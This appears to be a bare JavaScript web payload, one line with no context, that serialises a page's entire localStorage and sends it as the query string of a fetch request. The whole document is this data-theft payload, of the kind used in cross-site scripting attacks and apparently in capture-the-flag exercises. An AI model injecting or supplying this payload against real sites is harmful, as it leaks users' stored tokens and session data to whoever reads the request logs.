fetch("/?" + JSON.stringify(localStorage));
